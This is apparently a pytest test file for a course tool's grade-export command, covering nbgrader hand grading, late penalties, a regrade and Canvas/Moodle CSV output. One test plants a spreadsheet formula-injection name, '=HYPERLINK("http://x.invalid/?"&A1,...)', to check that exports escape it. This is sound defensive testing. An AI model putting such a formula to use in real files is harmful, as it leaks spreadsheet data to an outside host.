"""``lmcourse grade export`` on a grade run's files made here: a gradebook built with nbgrader's
API holds the hand-graded points a TA would enter in formgrader; every file written is parsed
back; then one real grade run of a tiny Canvas class: roster, due time, late policy, hand grading,
a one-student regrade and the export.
"""

from __future__ import annotations

import csv
import json
import os
import sys
import zipfile
from pathlib import Path

import pytest

from lmcourse.grading.export import ExportError, export
from lmcourse.grading.roster import Student

# nbgrader 0.9.6's add_submission under SQLAlchemy 2 (see lmcourse.grading.gradebook's _quiet_nbgrader_session_warnings)
pytestmark = pytest.mark.filterwarnings(r"ignore:Object of type <Submitted\w+> not in session")

A = "01_ngram"
TESTS = ["pad_sentence_tests", "q1_tests"]     # 1 point each, autograded
HAND = "q2"                                    # 2 points, hand-graded


def grade_run(out: Path) -> None:
    """What `lmcourse grade` leaves: grades.csv (with the late columns), students.json, pages."""
    out.mkdir(parents=True, exist_ok=True)
    head = ["student", "assignment", "score", "max_score", "status", "flags", "detail", "submitted_at", "due",
            "late_hours", "penalty_pct", *TESTS, HAND]
    rows = [["1001", A, "2", "4", "graded", "", "", "", "", "", "0", "1", "1", ""],
            ["1002", A, "1", "4", "graded", "", "", "", "", "", "10", "1", "0", ""],       # late, 10%
            ["77", A, "2", "4", "graded", "renamed", "graded x.ipynb", "", "", "", "0", "1", "1", ""],
            ["1003", A, "0", "4", "missing-notebook", "", "no submission", "", "", "", "0", "0", "0", ""],
            ["2001", A, "1", "4", "graded", "", "", "", "", "", "0", "0", "1", ""]]
    with open(out / "grades.csv", "w", newline="") as f:
        csv.writer(f).writerows([head, *rows])
    (out / "students.json").write_text(json.dumps({
        "1001": {"name": "smithjane", "source": "canvas", "lms_user": "1001"},
        "1002": {"name": "doejohn", "source": "canvas", "lms_user": "1002"},
        "77": {"name": "Cy_Young", "source": "moodle", "lms_user": "77"},
        "2001": {"name": "mallorye", "source": "canvas", "lms_user": "2001"}}))
    (out / "feedback").mkdir(exist_ok=True)
    for s in ("1001", "1002", "77", "2001"):
        (out / "feedback" / f"{s}.html").write_text(f"<html><body>feedback for {s}</body></html>")


def gradebook(db: Path) -> None:
    from nbgrader.api import Gradebook

    bindir = str(Path(sys.executable).parent)     # nbgrader runs alembic from the venv
    os.environ["PATH"] = bindir + os.pathsep + os.environ.get("PATH", "")
    with Gradebook(f"sqlite:///{db}") as gb:
        gb.add_assignment(A)
        gb.add_notebook(A, A)
        for t in TESTS:
            gb.add_grade_cell(t, A, A, max_score=1, cell_type="code")
        gb.add_grade_cell(HAND, A, A, max_score=2, cell_type="markdown")
        gb.add_solution_cell(HAND, A, A)
        for s in ("1001", "1002", "77", "2001"):
            gb.add_student(s)
            gb.add_submission(A, s)
        gb.find_grade(HAND, A, A, "1001").manual_score = 2
        gb.find_grade(HAND, A, A, "1002").manual_score = 1
        gb.find_comment(HAND, A, A, "1002").manual_comment = "Say why the counts are smoothed."
        gb.find_grade(HAND, A, A, "77").manual_score = 1.5
        gb.find_grade("q1_tests", A, A, "77").manual_score = 0     # a TA overrules a test
        gb.db.commit()                                              # 2001: not hand-graded yet


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    out = tmp_path_factory.mktemp("grades")
    grade_run(out)
    db = out / "gradebook.db"
    gradebook(db)
    roster = {"1001": Student("1001", "Smith, Jane", "jane@example.edu", "A", sis_id="S1", login="jsmith"),
              "1002": Student("1002", "Doe, John", "john@example.edu", "B"),
              "1003": Student("1003", "Lee, Ann", "ann@example.edu", "A")}
    summary = export(out, gradebook=db, roster=roster, canvas_column="Lab 1 (4411)",
                     hidden=["assert pad_sentence(['a'], 3) == secret"])
    return out, summary


def read(path: Path) -> list[dict]:
    return list(csv.DictReader(path.read_text().splitlines()))


def test_grades_csv_merges_hand_points_and_penalty(exported):
    out, summary = exported
    rows = {r["student"]: r for r in read(out / "export" / "grades.csv")}
    assert set(rows) == {"1001", "1002", "77", "1003", "2001"}
    r = rows["1001"]
    assert (r["auto_score"], r["hand_score"], r["raw_score"], r["final_score"], r["max_score"]) == \
           ("2", "2", "4", "4", "4")
    assert (r["name"], r["email"], r["section"], r[HAND], r["q1_tests"]) == ("Smith, Jane", "jane@example.edu",
                                                                            "A", "2", "1")
    r = rows["1002"]                        # 1 auto + 1 hand = 2, 10% off
    assert (r["raw_score"], r["penalty_pct"], r["penalty"], r["final_score"]) == ("2", "10", "0.2", "1.8")
    r = rows["77"]                          # the TA's 0 for q1_tests wins over the autograder's 1
    assert (r["q1_tests"], r[HAND], r["raw_score"], r["name"]) == ("0", "1.5", "2.5", "Cy_Young")
    assert "needs-hand-grading" in rows["2001"]["flags"] and rows["2001"]["final_score"] == "1"
    assert rows["1003"]["status"] == "missing-notebook" and rows["1003"]["final_score"] == "0"
    assert any("not graded yet" in w for w in summary["warnings"])


def test_canvas_import_file(exported):
    out, _ = exported
    lines = list(csv.reader((out / "export" / "canvas.csv").read_text().splitlines()))
    assert lines[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Lab 1 (4411)"]
    assert lines[1][0].strip() == "Points Possible" and lines[1][5] == "4"
    rows = {r[1]: r for r in lines[2:]}
    assert rows["1001"] == ["Smith, Jane", "1001", "S1", "jsmith", "A", "4"]
    assert rows["1002"][5] == "1.8"


def test_moodle_import_file(exported):
    out, _ = exported
    rows = {r["ID number"]: r for r in read(out / "export" / "moodle.csv")}
    assert rows["1002"]["Email address"] == "john@example.edu" and rows["1002"][A] == "1.8"
    assert "late penalty" in rows["1002"]["Feedback"]


def test_feedback_folders_and_moodle_zip(exported):
    out, _ = exported
    fb = out / "export" / "feedback"
    assert (fb / "1001" / "feedback.html").read_text() == (out / "feedback" / "1001.html").read_text()
    text = (fb / "1002" / "grade.txt").read_text()
    assert "Say why the counts are smoothed." in text and "-0.2" in text
    assert not (fb / "1003" / "feedback.html").exists() and (fb / "1003" / "grade.txt").is_file()
    with zipfile.ZipFile(out / "export" / "moodle_feedback.zip") as zf:
        names = sorted(zf.namelist())
    # Moodle reads the participant id after the first "_": the name must hold none
    assert names == ["Cy Young_77_assignfeedback_file_/feedback.html", "Cy Young_77_assignfeedback_file_/grade.txt"]
    assert names[0].split("/")[0].split("_")[1] == "77"


def test_a_page_with_hidden_lines_is_withheld(tmp_path):
    out = tmp_path / "g"
    grade_run(out)
    (out / "feedback" / "1001.html").write_text("<pre>assert pad_sentence([&#x27;a&#x27;], 3) == secret</pre>")
    summary = export(out, hidden=["assert pad_sentence(['a'], 3) == secret"])
    assert not (out / "export" / "feedback" / "1001" / "feedback.html").exists()
    assert any("withheld" in w for w in summary["warnings"])


def test_students_never_read_all_tests_passed():
    """No student notebook, master, check helper or feedback code claims that *all* tests passed;
    every student notebook says that hidden tests run at grading."""
    import re

    from tests.conftest import ROOT

    claim = re.compile(r"all (the )?tests (have )?pass|tests passed|passed all (the )?tests|everything passe",
                       re.IGNORECASE)
    files = sorted((ROOT / "notebooks").glob("[0-9][0-9]_*.ipynb"))
    assert files
    for f in [*files, *sorted((ROOT / "autograder" / "masters").glob("[0-9][0-9]_*.py")),
              ROOT / "lmcourse" / "checks.py", *sorted((ROOT / "lmcourse" / "grading").glob("*.py"))]:
        text = f.read_text(encoding="utf-8")
        assert not claim.search(text), f"{f.name}: {claim.search(text)[0]!r}"
    for f in files:
        assert "hidden tests" in f.read_text(encoding="utf-8").lower(), f"{f.name} never says hidden tests run"


def test_student_regrade_refused_without_a_reason_to_run(tmp_path, capsys):
    """--student: an unknown id, or no earlier full run in --out, stops before any grading."""
    from lmcourse.commands.main import main

    (tmp_path / "class").mkdir()
    (tmp_path / "class" / "ada.ipynb").write_bytes(b"{}")
    args = ["grade", A, str(tmp_path / "class"), "--out", str(tmp_path / "out"), "--gradebook", "none",
            "--sandbox", "none", "--no-progress"]
    assert main([*args, "--student", "zed"]) == 2
    assert "no such student" in capsys.readouterr().err
    (tmp_path / "class" / "bob.ipynb").write_bytes(b"{}")
    assert main([*args, "--student", "bob"]) == 2
    assert "grade the whole class" in capsys.readouterr().err
    assert not (tmp_path / "out" / "results").exists()


def test_no_grade_run(tmp_path):
    with pytest.raises(ExportError, match="lmcourse grade"):
        export(tmp_path)


# ---------------------------------------------------------------- one semester, for real

def _class_zip(path: Path, students: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in students.items():
            zf.writestr(name, data)
    return path


@pytest.mark.slow  # real grading in the sandbox (two kernel runs)
@pytest.mark.slow
@pytest.mark.xdist_group("grader-batches")    # not beside test_grade's / test_forgery's batches
def test_semester_canvas_roster_late_regrade_export(tmp_path, capsys):
    """A Canvas download graded with a roster, a due time and a late policy; hand grading in
    the gradebook; one student's submission replaced and regraded alone; export. Two kernel
    runs in all (the late student's notebook, then the regraded one)."""
    import nbformat
    from nbgrader.api import Gradebook

    from lmcourse.authoring.course import perfect_submission
    from lmcourse.commands.main import main
    from lmcourse.grading import sandbox
    from tests.conftest import ROOT

    source = nbformat.read(ROOT / "autograder" / "source" / A / f"{A}.ipynb", as_version=4)
    student = nbformat.read(ROOT / "notebooks" / f"{A}.ipynb", as_version=4)
    auto_max = sum(c.metadata["nbgrader"]["points"] for c in source.cells
                   if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("grade"))
    good = perfect_submission(student, source)
    wrong = perfect_submission(student, source)
    next(c for c in wrong.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "q1").source = "answer_q1 = 'A'\n"
    files = {f"smithjane_1001_5001_{A}.ipynb": b"",                                # empty: invalid
             f"doejohn_LATE_1002_5002_{A}-1.ipynb": nbformat.writes(wrong).encode(),   # late, resubmitted
             f"mallorye_2001_5003_{A}.ipynb": b'{"cells": ['}                           # not on the roster
    subs = _class_zip(tmp_path / "submissions.zip", files)
    roster = tmp_path / "roster.csv"
    roster.write_text("id,name,email,section,extension\n1001,Jane Smith,jane@example.edu,A,\n"
                      "1002,John Doe,john@example.edu,B,\n1003,Ann Lee,ann@example.edu,A,2d\n")
    out, db = tmp_path / "grades", tmp_path / "course" / "gradebook.db"
    box = [] if sandbox.mode()[0] == "bubblewrap" else ["--sandbox", "none"]
    common = ["--out", str(out), "-j", "2", "--notebook-timeout", "120", "--cell-timeout", "8",
              "--memory-mb", "3072", "--no-progress", "--gradebook", str(db), *box]
    assert main(["grade", A, str(subs), *common, "--roster", str(roster), "--due", "2026-03-01T23:59",
                 "--late-policy", "10%/day"]) == 2                      # a due time without its timezone
    assert "timezone" in capsys.readouterr().err
    assert main(["grade", A, str(subs), *common, "--roster", str(roster), "--due", "2026-03-01T23:59+01:00",
                 "--late-policy", "10%/day,floor=50%"]) == 0
    rows = {r["student"]: r for r in read(out / "grades.csv")}
    assert set(rows) == {"1001", "1002", "1003", "2001"}
    assert (rows["1001"]["status"], rows["1001"]["name"], rows["1001"]["flags"]) == ("invalid-notebook",
                                                                                     "Jane Smith", "")
    r = rows["1002"]
    assert float(r["score"]) == auto_max - 1 and {"late", "late-time-unknown"} <= set(r["flags"].split(";"))
    assert r["penalty_pct"] == "10" and float(r["final_score"]) == pytest.approx((auto_max - 1) * 0.9)
    assert rows["1003"]["status"] == "missing-notebook"
    assert rows["2001"]["status"] == "invalid-notebook" and "not-on-roster" in rows["2001"]["flags"]
    # the late student's feedback: each test's score and message, no hidden source, no "all tests passed"
    page = (out / "feedback" / "1002.html").read_text()
    assert "Score:" in page and "CheckFailed: q1: a" in page and "answer_q1" in page
    assert "all tests passed" not in page.lower()
    # hand grading, as formgrader would store it
    with Gradebook(f"sqlite:///{db}") as gb:
        gb.find_grade("q2", A, A, "1002").manual_score = 2
        gb.db.commit()
    before = {p.name: p.read_bytes() for p in (out / "results").glob("*.json")}
    # 1001 sends a readable notebook; only that submission is regraded
    files[f"smithjane_1001_5001_{A}.ipynb"] = nbformat.writes(good).encode()
    _class_zip(subs, files)
    capsys.readouterr()
    assert main(["grade", A, str(subs), *common, "--student", "1001"]) == 0
    said = capsys.readouterr().out
    assert f"1001: 0/{auto_max:g} invalid-notebook -> {auto_max:g}/{auto_max:g} graded" in said, said
    after = {p.name: p.read_bytes() for p in (out / "results").glob("*.json")}
    assert {k: v for k, v in after.items() if k != "1001.json"} == {k: v for k, v in before.items()
                                                                   if k != "1001.json"}
    rows2 = {r["student"]: r for r in read(out / "grades.csv")}
    assert rows2["1001"]["status"] == "graded" and float(rows2["1001"]["final_score"]) == auto_max
    assert rows2["1002"] == rows["1002"] and rows2["2001"] == rows["2001"]     # roster and due time kept
    with Gradebook(f"sqlite:///{db}") as gb:
        assert gb.find_grade("q2", A, A, "1002").manual_score == 2          # the others' hand grading kept
        assert gb.find_submission_notebook(A, A, "1001").score == auto_max
    # back to the LMS
    assert main(["grade", "export", "--out", str(out), "--canvas-column", "Lab 1 (4411)"]) == 0
    canvas = {r["ID"]: r for r in read(out / "export" / "canvas.csv") if r["ID"]}
    assert float(canvas["1001"]["Lab 1 (4411)"]) == auto_max and canvas["1001"]["Student"] == "Jane Smith"
    assert float(canvas["1002"]["Lab 1 (4411)"]) == pytest.approx((auto_max - 1 + 2) * 0.9)
    assert canvas["1003"]["Lab 1 (4411)"] == "0"
    moodle = {r["ID number"]: r for r in read(out / "export" / "moodle.csv")}
    assert moodle["1002"]["Email address"] == "john@example.edu"
    assert (out / "export" / "feedback" / "1002" / "feedback.html").is_file()


def test_export_never_empties_a_folder_it_did_not_write(tmp_path):
    """R15: ``--to`` an existing folder used to be deleted whole (``--to ~/Desktop``, or ``--to``
    the grade run's own folder); now only an earlier export (its marker file) is replaced."""
    out = tmp_path / "g"
    grade_run(out)
    mine = tmp_path / "Desktop"
    mine.mkdir()
    (mine / "thesis.tex").write_text("years of work")
    with pytest.raises(ExportError, match="nothing was deleted"):
        export(out, mine)
    assert (mine / "thesis.tex").read_text() == "years of work"
    for inside in (out, tmp_path):                      # the grade run itself, or a folder around it
        with pytest.raises(ExportError, match="holds the grade run"):
            export(out, inside)
    assert (out / "grades.csv").is_file()
    export(out, tmp_path / "new")                       # a new folder, then the same one again
    (tmp_path / "new" / "stale.txt").write_text("from the last export")
    export(out, tmp_path / "new")
    assert not (tmp_path / "new" / "stale.txt").exists() and (tmp_path / "new" / "canvas.csv").is_file()
    (tmp_path / "empty").mkdir()
    export(out, tmp_path / "empty")
    assert (tmp_path / "empty" / "grades.csv").is_file()


def test_student_regrade_keeps_the_last_runs_gradebook(tmp_path, capsys):
    """R15: ``--student`` without ``--gradebook`` wrote into the course's default gradebook, not
    the one of the full run, and run.json then sent ``export`` to it (the hand grading in the
    real one was no longer read)."""
    from lmcourse.commands.main import main
    from lmcourse.grading.semester import read_run

    (tmp_path / "class").mkdir()
    (tmp_path / "class" / "ada.ipynb").write_bytes(b"{}")
    out = tmp_path / "out"
    out.mkdir()
    db = tmp_path / "term" / "gradebook.db"
    (out / "run.json").write_text(json.dumps({"assignment": A, "gradebook": str(db), "roster": "", "due": "",
                                              "late_policy": "none"}))
    assert main(["grade", A, str(tmp_path / "class"), "--out", str(out), "--sandbox", "none", "--no-progress",
                 "--student", "zed"]) == 2        # refused before grading: no such student
    assert f"--gradebook {db} (as in the last run)" in capsys.readouterr().err
    assert read_run(out)["gradebook"] == str(db)


def test_names_cannot_run_as_spreadsheet_formulas_and_warnings_count_right(tmp_path):
    """R15: a display name like '=HYPERLINK(...)' (students choose theirs in Moodle) went into
    canvas.csv / moodle.csv as it was, a formula once the TA opened the file; the e-mail warning
    said 'give --roster' when a roster was given."""
    out = tmp_path / "g"
    grade_run(out)
    info = json.loads((out / "students.json").read_text())
    info["77"]["name"] = '=HYPERLINK("http://x.invalid/?"&A1,"Cy")'
    (out / "students.json").write_text(json.dumps(info))
    summary = export(out, roster={"1001": Student("1001", "Jane Smith", "jane@example.edu")})
    moodle = {r["ID number"]: r for r in read(out / "export" / "moodle.csv")}
    assert moodle["77"]["Full name"].startswith("'=HYPERLINK")
    canvas = {r["ID"]: r for r in read(out / "export" / "canvas.csv")}
    assert canvas["77"]["Student"].startswith("'=") and canvas["1001"]["Student"] == "Jane Smith"
    said = " ".join(summary["warnings"])
    assert "4 students have no e-mail address (1002, 77, 1003, 2001; not on the roster, or none there)" in said, said


def test_a_blank_answer_scored_0_is_not_waiting_and_wrong_assignment_says_why(tmp_path):
    """nbgrader's autograde scores a free-text answer left as its stub 0 (auto_score set): that is
    graded, not waiting for a TA. A wrong-assignment row's reason reaches the student's grade.txt."""
    from nbgrader.api import Gradebook

    out = tmp_path / "grades"
    grade_run(out)
    why = "none of this assignment's graded cells is in the notebook — was another notebook submitted?"
    text = (out / "grades.csv").read_text().replace("missing-notebook,,no submission", f"wrong-assignment,,{why}")
    rows = list(csv.reader(text.splitlines()))     # grades.csv as `lmcourse grade` writes it now
    rows = [r[:4] + (["auto_max"] if i == 0 else ["2"]) + r[4:] for i, r in enumerate(rows)]
    with open(out / "grades.csv", "w", newline="") as f:
        csv.writer(f).writerows(rows)
    db = out / "gradebook.db"
    gradebook(db)
    with Gradebook(f"sqlite:///{db}") as gb:
        gb.find_grade(HAND, A, A, "2001").auto_score = 0           # left blank
        gb.db.commit()
    summary = export(out, gradebook=db)
    rows = {r["student"]: r for r in read(out / "export" / "grades.csv")}
    assert "needs-hand-grading" not in rows["2001"]["flags"] and rows["2001"][HAND] == "0"
    assert "auto_max" not in rows["2001"]            # a column of the grade run, not a question
    assert not any("not graded yet" in w for w in summary["warnings"]), summary["warnings"]
    said = (out / "export" / "feedback" / "1003" / "grade.txt").read_text()
    assert f"status: wrong-assignment: {why}" in said, said


def test_a_similarity_column_is_no_question(tmp_path):
    """`lmcourse grade similarity` adds a `similarity` column to grades.csv (a flag for the TA):
    export carries no question of that name, and no score moves."""
    out = tmp_path / "grades"
    grade_run(out)

    def read_export(folder):
        export(folder)
        return read(folder / "export" / "grades.csv")

    before = {r["student"]: r["final_score"] for r in read_export(out)}
    rows = list(csv.reader((out / "grades.csv").read_text().splitlines()))
    rows = [r + (["similarity"] if i == 0 else ["0.97 solution (flagged)"]) for i, r in enumerate(rows)]
    with open(out / "grades.csv", "w", newline="") as f:
        csv.writer(f).writerows(rows)
    after = read_export(out)
    assert all("similarity" not in r for r in after), after[0].keys()
    assert {r["student"]: r["final_score"] for r in after} == before
